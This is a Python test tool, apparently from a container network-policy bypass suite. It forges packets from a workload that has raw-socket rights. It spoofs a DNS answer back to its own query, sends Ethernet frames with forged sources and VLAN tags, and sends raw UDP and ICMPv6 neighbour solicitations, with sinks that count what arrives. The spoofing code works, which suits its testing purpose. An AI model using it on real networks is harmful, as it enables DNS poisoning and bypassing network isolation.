#!/usr/bin/env python3
"""Packet-level attacks a workload with NET_RAW (no NET_ADMIN) tries, for the
bypass suite: frames written whole with AF_PACKET, raw IP and raw ICMPv6.

  packet_forge.py hairpin-dns IFNAME ROUTER_MAC RESOLVER NAME FORGED_IP
      asks RESOLVER:53 for NAME from a UDP socket, then sends an answer
      "from" RESOLVER:53 (same id and question, A FORGED_IP) to its own
      address and port as an Ethernet frame to the router: the node routes
      it straight back in. Tries until the socket's first answer is not the
      resolver's (50 tries). Prints "raw:<sent|errno> first:<forged|resolver
      |nothing> attempts:N".
  packet_forge.py frame IFNAME ROUTER_MAC SRC_IP SRC_PORT DST_IP DST_PORT [TPID...]
      one UDP datagram (IPv4 or IPv6, by the addresses) in an Ethernet frame
      to the router, with VLAN tags (TPID in hex, VID 0, outermost first)
      if given. Prints "sent" or the errno name.
  packet_forge.py rawudp SRC_PORT DST_IP DST_PORT COUNT
      COUNT UDP datagrams from a raw IPv4 socket with source port SRC_PORT
      (the kernel writes the IP header). Prints "sent N" or the errno name.
  packet_forge.py nd DST MARK [TYPE]
      an ICMPv6 neighbour solicitation (or TYPE) with hop limit 255 to DST,
      target DST, and MARK as data after it. Prints "sent" or the errno name.
  packet_forge.py nd-sink SECONDS MARK
      counts ICMPv6 messages that carry MARK; prints the count.
  packet_forge.py udp-sink IP PORT SECONDS MARK
      counts UDP datagrams to IP:PORT that carry MARK; prints the count.
  packet_forge.py tcp-sink IP PORT SECONDS
      counts TCP connections accepted on IP:PORT; prints the count.
  A sink says "listening" on stderr once it is, and counts for SECONDS or
  until SIGTERM, whichever comes first.
"""
import errno
import random
import select
import signal
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800
ETH_P_IPV6 = 0x86DD


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ip_packet(src, sport, dst, dport, payload):
    """An IPv4 or IPv6 packet holding one UDP datagram, checksums right."""
    v6 = ":" in dst
    family = socket.AF_INET6 if v6 else socket.AF_INET
    s, d = socket.inet_pton(family, src), socket.inet_pton(family, dst)
    length = 8 + len(payload)
    if v6:
        pseudo = s + d + struct.pack("!IxxxB", length, socket.IPPROTO_UDP)
    else:
        pseudo = s + d + struct.pack("!xBH", socket.IPPROTO_UDP, length)
    udp = struct.pack("!HHHH", sport, dport, length, 0) + payload
    csum = checksum(pseudo + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", csum) + udp[8:]
    if v6:
        return ETH_P_IPV6, struct.pack("!IHBB", 6 << 28, length, socket.IPPROTO_UDP, 64) + s + d + udp
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, 0, 0, 64, socket.IPPROTO_UDP, 0, s, d)
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return ETH_P_IP, header + udp


def frame(ifname, router_mac, ethertype, packet, tpids=()):
    """Sends an Ethernet frame from IFNAME to router_mac; returns how it went."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((ifname, 0))
    own_mac = sock.getsockname()[4]
    tags = b"".join(struct.pack("!HH", tpid, 0) for tpid in tpids)
    data = bytes.fromhex(router_mac.replace(":", "")) + own_mac + tags + struct.pack("!H", ethertype) + packet
    try:
        sock.send(data)
        return "sent"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))


def question(name):
    out = b""
    for label in name.rstrip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\x00" + struct.pack("!HH", 1, 1)


def hairpin_dns(ifname, router_mac, resolver, name, forged_ip):
    sent, got = "", "resolver"
    for attempt in range(1, 51):
        qid = random.randrange(1, 65535)
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.connect((resolver, 53))
        own_ip, own_port = s.getsockname()
        q = question(name)
        answer = struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 0) + q
        answer += b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(forged_ip)
        ethertype, packet = ip_packet(resolver, 53, own_ip, own_port, answer)
        s.send(struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + q)
        sent = frame(ifname, router_mac, ethertype, packet)
        s.settimeout(1)
        try:
            data = s.recv(2048)
            got = "forged" if socket.inet_aton(forged_ip) in data else "resolver"
        except socket.timeout:
            got = "nothing"
        s.close()
        if got != "resolver":
            break
    print(f"raw:{sent} first:{got} attempts:{attempt}")


def raw_udp(sport, dst, dport, count):
    try:
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    except OSError as e:
        print(errno.errorcode.get(e.errno, str(e.errno)))
        return
    payload = b"bypass-raw-udp"
    datagram = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    for _ in range(count):
        try:
            sock.sendto(datagram, (dst, 0))
        except OSError as e:
            print(errno.errorcode.get(e.errno, str(e.errno)))
            return
    print(f"sent {count}")


def nd(dst, mark, icmp_type=135):
    try:
        sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
        # The kernel fills the ICMPv6 checksum of a raw ICMPv6 socket.
        message = struct.pack("!BBHI", icmp_type, 0, 0, 0) + socket.inet_pton(socket.AF_INET6, dst)
        sock.sendto(message + mark.encode(), (dst, 0))
        print("sent")
    except OSError as e:
        print(errno.errorcode.get(e.errno, str(e.errno)))


class Stop(Exception):
    pass


def stop(signum, frame):
    raise Stop()


def sink(sock, seconds, count_one):
    """Counts what count_one says arrived on sock until SIGTERM or seconds."""
    count = 0
    signal.signal(signal.SIGTERM, stop)
    print("listening", file=sys.stderr, flush=True)
    end = time.monotonic() + seconds
    try:
        while (left := end - time.monotonic()) > 0:
            if select.select([sock], [], [], left)[0]:
                count += count_one(sock)
    except Stop:
        pass
    print(count, flush=True)


def marked(mark):
    return lambda sock: 1 if mark.encode() in sock.recv(65536) else 0


def accepted(sock):
    sock.accept()[0].close()
    return 1


def main():
    a = sys.argv[1:]
    if len(a) == 6 and a[0] == "hairpin-dns":
        hairpin_dns(*a[1:])
    elif len(a) >= 7 and a[0] == "frame":
        ethertype, packet = ip_packet(a[3], int(a[4]), a[5], int(a[6]), b"bypass-frame")
        print(frame(a[1], a[2], ethertype, packet, [int(t, 16) for t in a[7:]]))
    elif len(a) == 5 and a[0] == "rawudp":
        raw_udp(int(a[1]), a[2], int(a[3]), int(a[4]))
    elif len(a) in (3, 4) and a[0] == "nd":
        nd(a[1], a[2], int(a[3]) if len(a) == 4 else 135)
    elif len(a) == 3 and a[0] == "nd-sink":
        sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
        sink(sock, float(a[1]), marked(a[2]))
    elif len(a) == 5 and a[0] == "udp-sink":
        family = socket.AF_INET6 if ":" in a[1] else socket.AF_INET
        sock = socket.socket(family, socket.SOCK_DGRAM)
        sock.bind((a[1], int(a[2])))
        sink(sock, float(a[3]), marked(a[4]))
    elif len(a) == 4 and a[0] == "tcp-sink":
        family = socket.AF_INET6 if ":" in a[1] else socket.AF_INET
        sock = socket.socket(family, socket.SOCK_STREAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_FASTOPEN, 16)
        sock.bind((a[1], int(a[2])))
        sock.listen(64)
        sink(sock, float(a[3]), accepted)
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
